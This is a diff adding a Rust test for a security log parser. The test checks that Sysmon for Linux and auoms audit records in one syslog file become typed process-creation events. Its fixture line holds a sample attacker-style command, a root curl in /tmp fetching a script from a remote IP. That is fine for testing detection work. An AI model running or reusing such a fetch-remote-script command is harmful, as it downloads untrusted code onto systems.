@@ -559,6 +559,34 @@ fn walk(dir: &Path) -> Vec<PathBuf> {
     out
 }
 
+/// Sysmon for Linux retagged by a forwarder (program `Linux-Sysmon`,
+/// rsyslog's high-precision header) and auoms records in the same syslog
+/// file: both become typed events, not syslog text.
+#[test]
+fn retagged_sysmon_and_auoms_in_syslog() {
+    let original = std::fs::read_to_string(fixture("sysmon_linux.log")).unwrap();
+    let first = original.lines().next().unwrap();
+    let xml = &first[first.find("<Event>").unwrap()..];
+    let text = format!(
+        "2021-10-19T14:41:06.500000+00:00 web01 Linux-Sysmon[812]: {xml}\n\
+         Dec 14 19:26:40 web01 auoms[991]: type=AUOMS_EXECVE audit(1639510000.123:4567): syscall=execve success=yes exit=0 ppid=1200 pid=1300 audit_user=root auid=0 user=root uid=0 exe=\"/usr/bin/curl\" cmdline=\"curl -s http://198.51.100.7:8080/a.sh\" cwd=\"/tmp\"\n"
+    );
+    let c = read_mem(&Syslog::default(), "messages", text.as_bytes());
+    assert!(c.warnings.is_empty(), "{:?}", c.warnings);
+    assert_eq!(c.events.len(), 2);
+    let sy = &c.events[0];
+    assert_eq!(sy.event_id, Some(1));
+    assert!(has_ls(sy, Some("linux"), None, Some("process_creation")));
+    assert_eq!(s(sy, "Image").as_deref(), Some("/usr/bin/base64"));
+    let au = &c.events[1];
+    assert_eq!(au.host.as_deref(), Some("web01"));
+    assert!(has_ls(au, Some("linux"), Some("auditd"), None));
+    assert!(has_ls(au, Some("linux"), None, Some("process_creation")));
+    assert_eq!(s(au, "Image").as_deref(), Some("/usr/bin/curl"));
+    assert_eq!(s(au, "ParentProcessId").as_deref(), Some("1200"));
+    assert_eq!(au.timestamp.unwrap().timestamp_millis(), 1_639_510_000_123);
+}
+
 #[test]
 fn sysmon_for_linux_fixture() {
     let p = fixture("sysmon_linux.log");
